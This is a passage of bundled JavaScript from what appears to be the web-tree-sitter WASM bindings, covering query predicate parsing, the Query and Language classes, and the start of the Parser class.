    this.kind = kind;
    this.info = info2;
    this.index = index;
    this.length = length;
    this.name = "QueryError";
  }
  static {
    __name(this, "QueryError");
  }
  /** Formats an error message based on the error kind and info */
  static formatMessage(kind, info2) {
    switch (kind) {
      case QueryErrorKind.NodeName:
        return `Bad node name '${info2.word}'`;
      case QueryErrorKind.FieldName:
        return `Bad field name '${info2.word}'`;
      case QueryErrorKind.CaptureName:
        return `Bad capture name @${info2.word}`;
      case QueryErrorKind.PatternStructure:
        return `Bad pattern structure at offset ${info2.suffix}`;
      case QueryErrorKind.Syntax:
        return `Bad syntax at offset ${info2.suffix}`;
    }
  }
};
function parseAnyPredicate(steps, index, operator, textPredicates) {
  if (steps.length !== 3) {
    throw new Error(
      `Wrong number of arguments to \`#${operator}\` predicate. Expected 2, got ${steps.length - 1}`
    );
  }
  if (!isCaptureStep(steps[1])) {
    throw new Error(
      `First argument of \`#${operator}\` predicate must be a capture. Got "${steps[1].value}"`
    );
  }
  const isPositive = operator === "eq?" || operator === "any-eq?";
  const matchAll = !operator.startsWith("any-");
  if (isCaptureStep(steps[2])) {
    const captureName1 = steps[1].name;
    const captureName2 = steps[2].name;
    textPredicates[index].push((captures) => {
      const nodes1 = [];
      const nodes2 = [];
      for (const c of captures) {
        if (c.name === captureName1) nodes1.push(c.node);
        if (c.name === captureName2) nodes2.push(c.node);
      }
      const compare = /* @__PURE__ */ __name((n1, n2, positive) => {
        return positive ? n1.text === n2.text : n1.text !== n2.text;
      }, "compare");
      return matchAll ? nodes1.every((n1) => nodes2.some((n2) => compare(n1, n2, isPositive))) : nodes1.some((n1) => nodes2.some((n2) => compare(n1, n2, isPositive)));
    });
  } else {
    const captureName = steps[1].name;
    const stringValue = steps[2].value;
    const matches = /* @__PURE__ */ __name((n) => n.text === stringValue, "matches");
    const doesNotMatch = /* @__PURE__ */ __name((n) => n.text !== stringValue, "doesNotMatch");
    textPredicates[index].push((captures) => {
      const nodes = [];
      for (const c of captures) {
        if (c.name === captureName) nodes.push(c.node);
      }
      const test = isPositive ? matches : doesNotMatch;
      return matchAll ? nodes.every(test) : nodes.some(test);
    });
  }
}
__name(parseAnyPredicate, "parseAnyPredicate");
function parseMatchPredicate(steps, index, operator, textPredicates) {
  if (steps.length !== 3) {
    throw new Error(
      `Wrong number of arguments to \`#${operator}\` predicate. Expected 2, got ${steps.length - 1}.`
    );
  }
  if (steps[1].type !== "capture") {
    throw new Error(
      `First argument of \`#${operator}\` predicate must be a capture. Got "${steps[1].value}".`
    );
  }
  if (steps[2].type !== "string") {
    throw new Error(
      `Second argument of \`#${operator}\` predicate must be a string. Got @${steps[2].name}.`
    );
  }
  const isPositive = operator === "match?" || operator === "any-match?";
  const matchAll = !operator.startsWith("any-");
  const captureName = steps[1].name;
  const regex = new RegExp(steps[2].value);
  textPredicates[index].push((captures) => {
    const nodes = [];
    for (const c of captures) {
      if (c.name === captureName) nodes.push(c.node.text);
    }
    const test = /* @__PURE__ */ __name((text, positive) => {
      return positive ? regex.test(text) : !regex.test(text);
    }, "test");
    if (nodes.length === 0) return !isPositive;
    return matchAll ? nodes.every((text) => test(text, isPositive)) : nodes.some((text) => test(text, isPositive));
  });
}
__name(parseMatchPredicate, "parseMatchPredicate");
function parseAnyOfPredicate(steps, index, operator, textPredicates) {
  if (steps.length < 2) {
    throw new Error(
      `Wrong number of arguments to \`#${operator}\` predicate. Expected at least 1. Got ${steps.length - 1}.`
    );
  }
  if (steps[1].type !== "capture") {
    throw new Error(
      `First argument of \`#${operator}\` predicate must be a capture. Got "${steps[1].value}".`
    );
  }
  const isPositive = operator === "any-of?";
  const captureName = steps[1].name;
  const stringSteps = steps.slice(2);
  if (!stringSteps.every(isStringStep)) {
    throw new Error(
      `Arguments to \`#${operator}\` predicate must be strings.".`
    );
  }
  const values = stringSteps.map((s) => s.value);
  textPredicates[index].push((captures) => {
    const nodes = [];
    for (const c of captures) {
      if (c.name === captureName) nodes.push(c.node.text);
    }
    if (nodes.length === 0) return !isPositive;
    return nodes.every((text) => values.includes(text)) === isPositive;
  });
}
__name(parseAnyOfPredicate, "parseAnyOfPredicate");
function parseIsPredicate(steps, index, operator, assertedProperties, refutedProperties) {
  if (steps.length < 2 || steps.length > 3) {
    throw new Error(
      `Wrong number of arguments to \`#${operator}\` predicate. Expected 1 or 2. Got ${steps.length - 1}.`
    );
  }
  if (!steps.every(isStringStep)) {
    throw new Error(
      `Arguments to \`#${operator}\` predicate must be strings.".`
    );
  }
  const properties = operator === "is?" ? assertedProperties : refutedProperties;
  if (!properties[index]) properties[index] = {};
  properties[index][steps[1].value] = steps[2]?.value ?? null;
}
__name(parseIsPredicate, "parseIsPredicate");
function parseSetDirective(steps, index, setProperties) {
  if (steps.length < 2 || steps.length > 3) {
    throw new Error(`Wrong number of arguments to \`#set!\` predicate. Expected 1 or 2. Got ${steps.length - 1}.`);
  }
  if (!steps.every(isStringStep)) {
    throw new Error(`Arguments to \`#set!\` predicate must be strings.".`);
  }
  if (!setProperties[index]) setProperties[index] = {};
  setProperties[index][steps[1].value] = steps[2]?.value ?? null;
}
__name(parseSetDirective, "parseSetDirective");
function parsePattern(index, stepType, stepValueId, captureNames, stringValues, steps, textPredicates, predicates, setProperties, assertedProperties, refutedProperties) {
  if (stepType === PREDICATE_STEP_TYPE_CAPTURE) {
    const name2 = captureNames[stepValueId];
    steps.push({ type: "capture", name: name2 });
  } else if (stepType === PREDICATE_STEP_TYPE_STRING) {
    steps.push({ type: "string", value: stringValues[stepValueId] });
  } else if (steps.length > 0) {
    if (steps[0].type !== "string") {
      throw new Error("Predicates must begin with a literal value");
    }
    const operator = steps[0].value;
    switch (operator) {
      case "any-not-eq?":
      case "not-eq?":
      case "any-eq?":
      case "eq?":
        parseAnyPredicate(steps, index, operator, textPredicates);
        break;
      case "any-not-match?":
      case "not-match?":
      case "any-match?":
      case "match?":
        parseMatchPredicate(steps, index, operator, textPredicates);
        break;
      case "not-any-of?":
      case "any-of?":
        parseAnyOfPredicate(steps, index, operator, textPredicates);
        break;
      case "is?":
      case "is-not?":
        parseIsPredicate(steps, index, operator, assertedProperties, refutedProperties);
        break;
      case "set!":
        parseSetDirective(steps, index, setProperties);
        break;
      default:
        predicates[index].push({ operator, operands: steps.slice(1) });
    }
    steps.length = 0;
  }
}
__name(parsePattern, "parsePattern");
var Query = class {
  static {
    __name(this, "Query");
  }
  /** @internal */
  [0] = 0;
  // Internal handle for WASM
  /** @internal */
  exceededMatchLimit;
  /** @internal */
  textPredicates;
  /** The names of the captures used in the query. */
  captureNames;
  /** The quantifiers of the captures used in the query. */
  captureQuantifiers;
  /**
   * The other user-defined predicates associated with the given index.
   *
   * This includes predicates with operators other than:
   * - `match?`
   * - `eq?` and `not-eq?`
   * - `any-of?` and `not-any-of?`
   * - `is?` and `is-not?`
   * - `set!`
   */
  predicates;
  /** The properties for predicates with the operator `set!`. */
  setProperties;
  /** The properties for predicates with the operator `is?`. */
  assertedProperties;
  /** The properties for predicates with the operator `is-not?`. */
  refutedProperties;
  /** The maximum number of in-progress matches for this cursor. */
  matchLimit;
  /**
   * Create a new query from a string containing one or more S-expression
   * patterns.
   *
   * The query is associated with a particular language, and can only be run
   * on syntax nodes parsed with that language. References to Queries can be
   * shared between multiple threads.
   *
   * @link {@see https://tree-sitter.github.io/tree-sitter/using-parsers/queries}
   */
  constructor(language, source) {
    const sourceLength = C.lengthBytesUTF8(source);
    const sourceAddress = C._malloc(sourceLength + 1);
    C.stringToUTF8(source, sourceAddress, sourceLength + 1);
    const address = C._ts_query_new(
      language[0],
      sourceAddress,
      sourceLength,
      TRANSFER_BUFFER,
      TRANSFER_BUFFER + SIZE_OF_INT
    );
    if (!address) {
      const errorId = C.getValue(TRANSFER_BUFFER + SIZE_OF_INT, "i32");
      const errorByte = C.getValue(TRANSFER_BUFFER, "i32");
      const errorIndex = C.UTF8ToString(sourceAddress, errorByte).length;
      const suffix = source.slice(errorIndex, errorIndex + 100).split("\n")[0];
      const word = suffix.match(QUERY_WORD_REGEX)?.[0] ?? "";
      C._free(sourceAddress);
      switch (errorId) {
        case QueryErrorKind.Syntax:
          throw new QueryError(QueryErrorKind.Syntax, { suffix: `${errorIndex}: '${suffix}'...` }, errorIndex, 0);
        case QueryErrorKind.NodeName:
          throw new QueryError(errorId, { word }, errorIndex, word.length);
        case QueryErrorKind.FieldName:
          throw new QueryError(errorId, { word }, errorIndex, word.length);
        case QueryErrorKind.CaptureName:
          throw new QueryError(errorId, { word }, errorIndex, word.length);
        case QueryErrorKind.PatternStructure:
          throw new QueryError(errorId, { suffix: `${errorIndex}: '${suffix}'...` }, errorIndex, 0);
      }
    }
    const stringCount = C._ts_query_string_count(address);
    const captureCount = C._ts_query_capture_count(address);
    const patternCount = C._ts_query_pattern_count(address);
    const captureNames = new Array(captureCount);
    const captureQuantifiers = new Array(patternCount);
    const stringValues = new Array(stringCount);
    for (let i2 = 0; i2 < captureCount; i2++) {
      const nameAddress = C._ts_query_capture_name_for_id(
        address,
        i2,
        TRANSFER_BUFFER
      );
      const nameLength = C.getValue(TRANSFER_BUFFER, "i32");
      captureNames[i2] = C.UTF8ToString(nameAddress, nameLength);
    }
    for (let i2 = 0; i2 < patternCount; i2++) {
      const captureQuantifiersArray = new Array(captureCount);
      for (let j = 0; j < captureCount; j++) {
        const quantifier = C._ts_query_capture_quantifier_for_id(address, i2, j);
        captureQuantifiersArray[j] = quantifier;
      }
      captureQuantifiers[i2] = captureQuantifiersArray;
    }
    for (let i2 = 0; i2 < stringCount; i2++) {
      const valueAddress = C._ts_query_string_value_for_id(
        address,
        i2,
        TRANSFER_BUFFER
      );
      const nameLength = C.getValue(TRANSFER_BUFFER, "i32");
      stringValues[i2] = C.UTF8ToString(valueAddress, nameLength);
    }
    const setProperties = new Array(patternCount);
    const assertedProperties = new Array(patternCount);
    const refutedProperties = new Array(patternCount);
    const predicates = new Array(patternCount);
    const textPredicates = new Array(patternCount);
    for (let i2 = 0; i2 < patternCount; i2++) {
      const predicatesAddress = C._ts_query_predicates_for_pattern(address, i2, TRANSFER_BUFFER);
      const stepCount = C.getValue(TRANSFER_BUFFER, "i32");
      predicates[i2] = [];
      textPredicates[i2] = [];
      const steps = new Array();
      let stepAddress = predicatesAddress;
      for (let j = 0; j < stepCount; j++) {
        const stepType = C.getValue(stepAddress, "i32");
        stepAddress += SIZE_OF_INT;
        const stepValueId = C.getValue(stepAddress, "i32");
        stepAddress += SIZE_OF_INT;
        parsePattern(
          i2,
          stepType,
          stepValueId,
          captureNames,
          stringValues,
          steps,
          textPredicates,
          predicates,
          setProperties,
          assertedProperties,
          refutedProperties
        );
      }
      Object.freeze(textPredicates[i2]);
      Object.freeze(predicates[i2]);
      Object.freeze(setProperties[i2]);
      Object.freeze(assertedProperties[i2]);
      Object.freeze(refutedProperties[i2]);
    }
    C._free(sourceAddress);
    this[0] = address;
    this.captureNames = captureNames;
    this.captureQuantifiers = captureQuantifiers;
    this.textPredicates = textPredicates;
    this.predicates = predicates;
    this.setProperties = setProperties;
    this.assertedProperties = assertedProperties;
    this.refutedProperties = refutedProperties;
    this.exceededMatchLimit = false;
  }
  /** Delete the query, freeing its resources. */
  delete() {
    C._ts_query_delete(this[0]);
    this[0] = 0;
  }
  /**
   * Iterate over all of the matches in the order that they were found.
   *
   * Each match contains the index of the pattern that matched, and a list of
   * captures. Because multiple patterns can match the same set of nodes,
   * one match may contain captures that appear *before* some of the
   * captures from a previous match.
   *
   * @param {Node} node - The node to execute the query on.
   *
   * @param {QueryOptions} options - Options for query execution.
   */
  matches(node, options = {}) {
    const startPosition = options.startPosition ?? ZERO_POINT;
    const endPosition = options.endPosition ?? ZERO_POINT;
    const startIndex = options.startIndex ?? 0;
    const endIndex = options.endIndex ?? 0;
    const matchLimit = options.matchLimit ?? 4294967295;
    const maxStartDepth = options.maxStartDepth ?? 4294967295;
    const timeoutMicros = options.timeoutMicros ?? 0;
    const progressCallback = options.progressCallback;
    if (typeof matchLimit !== "number") {
      throw new Error("Arguments must be numbers");
    }
    this.matchLimit = matchLimit;
    if (endIndex !== 0 && startIndex > endIndex) {
      throw new Error("`startIndex` cannot be greater than `endIndex`");
    }
    if (endPosition !== ZERO_POINT && (startPosition.row > endPosition.row || startPosition.row === endPosition.row && startPosition.column > endPosition.column)) {
      throw new Error("`startPosition` cannot be greater than `endPosition`");
    }
    if (progressCallback) {
      C.currentQueryProgressCallback = progressCallback;
    }
    marshalNode(node);
    C._ts_query_matches_wasm(
      this[0],
      node.tree[0],
      startPosition.row,
      startPosition.column,
      endPosition.row,
      endPosition.column,
      startIndex,
      endIndex,
      matchLimit,
      maxStartDepth,
      timeoutMicros
    );
    const rawCount = C.getValue(TRANSFER_BUFFER, "i32");
    const startAddress = C.getValue(TRANSFER_BUFFER + SIZE_OF_INT, "i32");
    const didExceedMatchLimit = C.getValue(TRANSFER_BUFFER + 2 * SIZE_OF_INT, "i32");
    const result = new Array(rawCount);
    this.exceededMatchLimit = Boolean(didExceedMatchLimit);
    let filteredCount = 0;
    let address = startAddress;
    for (let i2 = 0; i2 < rawCount; i2++) {
      const patternIndex = C.getValue(address, "i32");
      address += SIZE_OF_INT;
      const captureCount = C.getValue(address, "i32");
      address += SIZE_OF_INT;
      const captures = new Array(captureCount);
      address = unmarshalCaptures(this, node.tree, address, patternIndex, captures);
      if (this.textPredicates[patternIndex].every((p) => p(captures))) {
        result[filteredCount] = { pattern: patternIndex, patternIndex, captures };
        const setProperties = this.setProperties[patternIndex];
        result[filteredCount].setProperties = setProperties;
        const assertedProperties = this.assertedProperties[patternIndex];
        result[filteredCount].assertedProperties = assertedProperties;
        const refutedProperties = this.refutedProperties[patternIndex];
        result[filteredCount].refutedProperties = refutedProperties;
        filteredCount++;
      }
    }
    result.length = filteredCount;
    C._free(startAddress);
    C.currentQueryProgressCallback = null;
    return result;
  }
  /**
   * Iterate over all of the individual captures in the order that they
   * appear.
   *
   * This is useful if you don't care about which pattern matched, and just
   * want a single, ordered sequence of captures.
   *
   * @param {Node} node - The node to execute the query on.
   *
   * @param {QueryOptions} options - Options for query execution.
   */
  captures(node, options = {}) {
    const startPosition = options.startPosition ?? ZERO_POINT;
    const endPosition = options.endPosition ?? ZERO_POINT;
    const startIndex = options.startIndex ?? 0;
    const endIndex = options.endIndex ?? 0;
    const matchLimit = options.matchLimit ?? 4294967295;
    const maxStartDepth = options.maxStartDepth ?? 4294967295;
    const timeoutMicros = options.timeoutMicros ?? 0;
    const progressCallback = options.progressCallback;
    if (typeof matchLimit !== "number") {
      throw new Error("Arguments must be numbers");
    }
    this.matchLimit = matchLimit;
    if (endIndex !== 0 && startIndex > endIndex) {
      throw new Error("`startIndex` cannot be greater than `endIndex`");
    }
    if (endPosition !== ZERO_POINT && (startPosition.row > endPosition.row || startPosition.row === endPosition.row && startPosition.column > endPosition.column)) {
      throw new Error("`startPosition` cannot be greater than `endPosition`");
    }
    if (progressCallback) {
      C.currentQueryProgressCallback = progressCallback;
    }
    marshalNode(node);
    C._ts_query_captures_wasm(
      this[0],
      node.tree[0],
      startPosition.row,
      startPosition.column,
      endPosition.row,
      endPosition.column,
      startIndex,
      endIndex,
      matchLimit,
      maxStartDepth,
      timeoutMicros
    );
    const count = C.getValue(TRANSFER_BUFFER, "i32");
    const startAddress = C.getValue(TRANSFER_BUFFER + SIZE_OF_INT, "i32");
    const didExceedMatchLimit = C.getValue(TRANSFER_BUFFER + 2 * SIZE_OF_INT, "i32");
    const result = new Array();
    this.exceededMatchLimit = Boolean(didExceedMatchLimit);
    const captures = new Array();
    let address = startAddress;
    for (let i2 = 0; i2 < count; i2++) {
      const patternIndex = C.getValue(address, "i32");
      address += SIZE_OF_INT;
      const captureCount = C.getValue(address, "i32");
      address += SIZE_OF_INT;
      const captureIndex = C.getValue(address, "i32");
      address += SIZE_OF_INT;
      captures.length = captureCount;
      address = unmarshalCaptures(this, node.tree, address, patternIndex, captures);
      if (this.textPredicates[patternIndex].every((p) => p(captures))) {
        const capture = captures[captureIndex];
        const setProperties = this.setProperties[patternIndex];
        capture.setProperties = setProperties;
        const assertedProperties = this.assertedProperties[patternIndex];
        capture.assertedProperties = assertedProperties;
        const refutedProperties = this.refutedProperties[patternIndex];
        capture.refutedProperties = refutedProperties;
        result.push(capture);
      }
    }
    C._free(startAddress);
    C.currentQueryProgressCallback = null;
    return result;
  }
  /** Get the predicates for a given pattern. */
  predicatesForPattern(patternIndex) {
    return this.predicates[patternIndex];
  }
  /**
   * Disable a certain capture within a query.
   *
   * This prevents the capture from being returned in matches, and also
   * avoids any resource usage associated with recording the capture.
   */
  disableCapture(captureName) {
    const captureNameLength = C.lengthBytesUTF8(captureName);
    const captureNameAddress = C._malloc(captureNameLength + 1);
    C.stringToUTF8(captureName, captureNameAddress, captureNameLength + 1);
    C._ts_query_disable_capture(this[0], captureNameAddress, captureNameLength);
    C._free(captureNameAddress);
  }
  /**
   * Disable a certain pattern within a query.
   *
   * This prevents the pattern from matching, and also avoids any resource
   * usage associated with the pattern. This throws an error if the pattern
   * index is out of bounds.
   */
  disablePattern(patternIndex) {
    if (patternIndex >= this.predicates.length) {
      throw new Error(
        `Pattern index is ${patternIndex} but the pattern count is ${this.predicates.length}`
      );
    }
    C._ts_query_disable_pattern(this[0], patternIndex);
  }
  /**
   * Check if, on its last execution, this cursor exceeded its maximum number
   * of in-progress matches.
   */
  didExceedMatchLimit() {
    return this.exceededMatchLimit;
  }
  /** Get the byte offset where the given pattern starts in the query's source. */
  startIndexForPattern(patternIndex) {
    if (patternIndex >= this.predicates.length) {
      throw new Error(
        `Pattern index is ${patternIndex} but the pattern count is ${this.predicates.length}`
      );
    }
    return C._ts_query_start_byte_for_pattern(this[0], patternIndex);
  }
  /** Get the byte offset where the given pattern ends in the query's source. */
  endIndexForPattern(patternIndex) {
    if (patternIndex >= this.predicates.length) {
      throw new Error(
        `Pattern index is ${patternIndex} but the pattern count is ${this.predicates.length}`
      );
    }
    return C._ts_query_end_byte_for_pattern(this[0], patternIndex);
  }
  /** Get the number of patterns in the query. */
  patternCount() {
    return C._ts_query_pattern_count(this[0]);
  }
  /** Get the index for a given capture name. */
  captureIndexForName(captureName) {
    return this.captureNames.indexOf(captureName);
  }
  /** Check if a given pattern within a query has a single root node. */
  isPatternRooted(patternIndex) {
    return C._ts_query_is_pattern_rooted(this[0], patternIndex) === 1;
  }
  /** Check if a given pattern within a query has a single root node. */
  isPatternNonLocal(patternIndex) {
    return C._ts_query_is_pattern_non_local(this[0], patternIndex) === 1;
  }
  /**
   * Check if a given step in a query is 'definite'.
   *
   * A query step is 'definite' if its parent pattern will be guaranteed to
   * match successfully once it reaches the step.
   */
  isPatternGuaranteedAtStep(byteIndex) {
    return C._ts_query_is_pattern_guaranteed_at_step(this[0], byteIndex) === 1;
  }
};

// src/language.ts
var LANGUAGE_FUNCTION_REGEX = /^tree_sitter_\w+$/;
var Language = class _Language {
  static {
    __name(this, "Language");
  }
  /** @internal */
  [0] = 0;
  // Internal handle for WASM
  /**
   * A list of all node types in the language. The index of each type in this
   * array is its node type id.
   */
  types;
  /**
   * A list of all field names in the language. The index of each field name in
   * this array is its field id.
   */
  fields;
  /** @internal */
  constructor(internal, address) {
    assertInternal(internal);
    this[0] = address;
    this.types = new Array(C._ts_language_symbol_count(this[0]));
    for (let i2 = 0, n = this.types.length; i2 < n; i2++) {
      if (C._ts_language_symbol_type(this[0], i2) < 2) {
        this.types[i2] = C.UTF8ToString(C._ts_language_symbol_name(this[0], i2));
      }
    }
    this.fields = new Array(C._ts_language_field_count(this[0]) + 1);
    for (let i2 = 0, n = this.fields.length; i2 < n; i2++) {
      const fieldName = C._ts_language_field_name_for_id(this[0], i2);
      if (fieldName !== 0) {
        this.fields[i2] = C.UTF8ToString(fieldName);
      } else {
        this.fields[i2] = null;
      }
    }
  }
  /**
   * Gets the name of the language.
   */
  get name() {
    const ptr = C._ts_language_name(this[0]);
    if (ptr === 0) return null;
    return C.UTF8ToString(ptr);
  }
  /**
   * @deprecated since version 0.25.0, use {@link Language#abiVersion} instead
   * Gets the version of the language.
   */
  get version() {
    return C._ts_language_version(this[0]);
  }
  /**
   * Gets the ABI version of the language.
   */
  get abiVersion() {
    return C._ts_language_abi_version(this[0]);
  }
  /**
  * Get the metadata for this language. This information is generated by the
  * CLI, and relies on the language author providing the correct metadata in
  * the language's `tree-sitter.json` file.
  */
  get metadata() {
    C._ts_language_metadata(this[0]);
    const length = C.getValue(TRANSFER_BUFFER, "i32");
    const address = C.getValue(TRANSFER_BUFFER + SIZE_OF_INT, "i32");
    if (length === 0) return null;
    return unmarshalLanguageMetadata(address);
  }
  /**
   * Gets the number of fields in the language.
   */
  get fieldCount() {
    return this.fields.length - 1;
  }
  /**
   * Gets the number of states in the language.
   */
  get stateCount() {
    return C._ts_language_state_count(this[0]);
  }
  /**
   * Get the field id for a field name.
   */
  fieldIdForName(fieldName) {
    const result = this.fields.indexOf(fieldName);
    return result !== -1 ? result : null;
  }
  /**
   * Get the field name for a field id.
   */
  fieldNameForId(fieldId) {
    return this.fields[fieldId] ?? null;
  }
  /**
   * Get the node type id for a node type name.
   */
  idForNodeType(type, named) {
    const typeLength = C.lengthBytesUTF8(type);
    const typeAddress = C._malloc(typeLength + 1);
    C.stringToUTF8(type, typeAddress, typeLength + 1);
    const result = C._ts_language_symbol_for_name(this[0], typeAddress, typeLength, named ? 1 : 0);
    C._free(typeAddress);
    return result || null;
  }
  /**
   * Gets the number of node types in the language.
   */
  get nodeTypeCount() {
    return C._ts_language_symbol_count(this[0]);
  }
  /**
   * Get the node type name for a node type id.
   */
  nodeTypeForId(typeId) {
    const name2 = C._ts_language_symbol_name(this[0], typeId);
    return name2 ? C.UTF8ToString(name2) : null;
  }
  /**
   * Check if a node type is named.
   *
   * @see {@link https://tree-sitter.github.io/tree-sitter/using-parsers/2-basic-parsing.html#named-vs-anonymous-nodes}
   */
  nodeTypeIsNamed(typeId) {
    return C._ts_language_type_is_named_wasm(this[0], typeId) ? true : false;
  }
  /**
   * Check if a node type is visible.
   */
  nodeTypeIsVisible(typeId) {
    return C._ts_language_type_is_visible_wasm(this[0], typeId) ? true : false;
  }
  /**
   * Get the supertypes ids of this language.
   *
   * @see {@link https://tree-sitter.github.io/tree-sitter/using-parsers/6-static-node-types.html?highlight=supertype#supertype-nodes}
   */
  get supertypes() {
    C._ts_language_supertypes_wasm(this[0]);
    const count = C.getValue(TRANSFER_BUFFER, "i32");
    const buffer = C.getValue(TRANSFER_BUFFER + SIZE_OF_INT, "i32");
    const result = new Array(count);
    if (count > 0) {
      let address = buffer;
      for (let i2 = 0; i2 < count; i2++) {
        result[i2] = C.getValue(address, "i16");
        address += SIZE_OF_SHORT;
      }
    }
    return result;
  }
  /**
   * Get the subtype ids for a given supertype node id.
   */
  subtypes(supertype) {
    C._ts_language_subtypes_wasm(this[0], supertype);
    const count = C.getValue(TRANSFER_BUFFER, "i32");
    const buffer = C.getValue(TRANSFER_BUFFER + SIZE_OF_INT, "i32");
    const result = new Array(count);
    if (count > 0) {
      let address = buffer;
      for (let i2 = 0; i2 < count; i2++) {
        result[i2] = C.getValue(address, "i16");
        address += SIZE_OF_SHORT;
      }
    }
    return result;
  }
  /**
   * Get the next state id for a given state id and node type id.
   */
  nextState(stateId, typeId) {
    return C._ts_language_next_state(this[0], stateId, typeId);
  }
  /**
   * Create a new lookahead iterator for this language and parse state.
   *
   * This returns `null` if state is invalid for this language.
   *
   * Iterating {@link LookaheadIterator} will yield valid symbols in the given
   * parse state. Newly created lookahead iterators will return the `ERROR`
   * symbol from {@link LookaheadIterator#currentType}.
   *
   * Lookahead iterators can be useful for generating suggestions and improving
   * syntax error diagnostics. To get symbols valid in an `ERROR` node, use the
   * lookahead iterator on its first leaf node state. For `MISSING` nodes, a
   * lookahead iterator created on the previous non-extra leaf node may be
   * appropriate.
   */
  lookaheadIterator(stateId) {
    const address = C._ts_lookahead_iterator_new(this[0], stateId);
    if (address) return new LookaheadIterator(INTERNAL, address, this);
    return null;
  }
  /**
   * @deprecated since version 0.25.0, call `new` on a {@link Query} instead
   *
   * Create a new query from a string containing one or more S-expression
   * patterns.
   *
   * The query is associated with a particular language, and can only be run
   * on syntax nodes parsed with that language. References to Queries can be
   * shared between multiple threads.
   *
   * @link {@see https://tree-sitter.github.io/tree-sitter/using-parsers/queries}
   */
  query(source) {
    console.warn("Language.query is deprecated. Use new Query(language, source) instead.");
    return new Query(this, source);
  }
  /**
   * Load a language from a WebAssembly module.
   * The module can be provided as a path to a file or as a buffer.
   */
  static async load(input) {
    let bytes;
    if (input instanceof Uint8Array) {
      bytes = Promise.resolve(input);
    } else {
      if (globalThis.process?.versions.node) {
        const fs2 = await Promise.resolve(/* import() */).then(__nccwpck_require__.t.bind(__nccwpck_require__, 1943, 23));
        bytes = fs2.readFile(input);
      } else {
        bytes = fetch(input).then((response) => response.arrayBuffer().then((buffer) => {
          if (response.ok) {
            return new Uint8Array(buffer);
          } else {
            const body2 = new TextDecoder("utf-8").decode(buffer);
            throw new Error(`Language.load failed with status ${response.status}.

${body2}`);
          }
        }));
      }
    }
    const mod = await C.loadWebAssemblyModule(await bytes, { loadAsync: true });
    const symbolNames = Object.keys(mod);
    const functionName = symbolNames.find((key) => LANGUAGE_FUNCTION_REGEX.test(key) && !key.includes("external_scanner_"));
    if (!functionName) {
      console.log(`Couldn't find language function in WASM file. Symbols:
${JSON.stringify(symbolNames, null, 2)}`);
      throw new Error("Language.load failed: no language function found in WASM file");
    }
    const languageAddress = mod[functionName]();
    return new _Language(INTERNAL, languageAddress);
  }
};

// src/bindings.ts
var import_tree_sitter = __toESM(require_tree_sitter(), 1);
var Module2 = null;
async function initializeBinding(moduleOptions) {
  if (!Module2) {
    Module2 = await (0, import_tree_sitter.default)(moduleOptions);
  }
  return Module2;
}
__name(initializeBinding, "initializeBinding");
function checkModule() {
  return !!Module2;
}
__name(checkModule, "checkModule");

// src/parser.ts
var TRANSFER_BUFFER;
var LANGUAGE_VERSION;
var MIN_COMPATIBLE_VERSION;
var Parser = class {
  static {
    __name(this, "Parser");
  }
  /** @internal */
  [0] = 0;
  // Internal handle for WASM
  /** @internal */
  [1] = 0;
  // Internal handle for WASM
  /** @internal */
  logCallback = null;
  /** The parser's current language. */
  language = null;
  /**
   * This must always be called before creating a Parser.
   *
   * You can optionally pass in options to configure the WASM module, the most common
   * one being `locateFile` to help the module find the `.wasm` file.
   */
  static async init(moduleOptions) {
    setModule(await initializeBinding(moduleOptions));
    TRANSFER_BUFFER = C._ts_init();
    LANGUAGE_VERSION = C.getValue(TRANSFER_BUFFER, "i32");
    MIN_COMPATIBLE_VERSION = C.getValue(TRANSFER_BUFFER + SIZE_OF_INT, "i32");
  }
  /**
   * Create a new parser.
   */
  constructor() {
    this.initialize();
  }
  /** @internal */
  initialize() {
    if (!checkModule()) {
      throw new Error("cannot construct a Parser before calling `init()`");
    }
    C._ts_parser_new_wasm();
    this[0] = C.getValue(TRANSFER_BUFFER, "i32");
    this[1] = C.getValue(TRANSFER_BUFFER + SIZE_OF_INT, "i32");
  }
  /** Delete the parser, freeing its resources. */
  delete() {
    C._ts_parser_delete(this[0]);
    C._free(this[1]);
    this[0] = 0;
    this[1] = 0;
  }
  /**
   * Set the language that the parser should use for parsing.
   *
   * If the language was not successfully assigned, an error will be thrown.
   * This happens if the language was generated with an incompatible
   * version of the Tree-sitter CLI. Check the language's version using
   * {@link Language#version} and compare it to this library's
   * {@link LANGUAGE_VERSION} and {@link MIN_COMPATIBLE_VERSION} constants.
   */
  setLanguage(language) {
    let address;
    if (!language) {
      address = 0;
      this.language = null;
    } else if (language.constructor === Language) {
      address = language[0];
      const version = C._ts_language_version(address);
      if (version < MIN_COMPATIBLE_VERSION || LANGUAGE_VERSION < version) {
        throw new Error(
          `Incompatible language version ${version}. Compatibility range ${MIN_COMPATIBLE_VERSION} through ${LANGUAGE_VERSION}.`
        );
      }
      this.language = language;
    } else {
      throw new Error("Argument must be a Language");
    }
    C._ts_parser_set_language(this[0], address);
    return this;
  }
  /**
   * Parse a slice of UTF8 text.
   *
   * @param {string | ParseCallback} callback - The UTF8-encoded text to parse or a callback function.
   *
   * @param {Tree | null} [oldTree] - A previous syntax tree parsed from the same document. If the text of the
   *   document has changed since `oldTree` was created, then you must edit `oldTree` to match
   *   the new text using {@link Tree#edit}.
   *
   * @param {ParseOptions} [options] - Options for parsing the text.
   *  This can be used to set the included ranges, or a progress callback.
   *
   * @returns {Tree | null} A {@link Tree} if parsing succeeded, or `null` if:
   *  - The parser has not yet had a language assigned with {@link Parser#setLanguage}.
   *  - The progress callback returned true.
   */
  parse(callback, oldTree, options) {
    if (typeof callback === "string") {
      C.currentParseCallback = (index) => callback.slice(index);
    } else if (typeof callback === "function") {
      C.currentParseCallback = callback;
    } else {
      throw new Error("Argument must be a string or a function");
    }
    if (options?.progressCallback) {
      C.currentProgressCallback = options.progressCallback;
    } else {
      C.currentProgressCallback = null;
    }
    if (this.logCallback) {
      C.currentLogCallback = this.logCallback;
      C._ts_parser_enable_logger_wasm(this[0], 1);
    } else {
      C.currentLogCallback = null;
      C._ts_parser_enable_logger_wasm(this[0], 0);
    }
    let rangeCount = 0;
    let rangeAddress = 0;
    if (options?.includedRanges) {
      rangeCount = options.includedRanges.length;
      rangeAddress = C._calloc(rangeCount, SIZE_OF_RANGE);
      let address = rangeAddress;
      for (let i2 = 0; i2 < rangeCount; i2++) {
        marshalRange(address, options.includedRanges[i2]);
        address += SIZE_OF_RANGE;
      }
    }
    const treeAddress = C._ts_parser_parse_wasm(
      this[0],
      this[1],
      oldTree ? oldTree[0] : 0,
      rangeAddress,
      rangeCount
    );
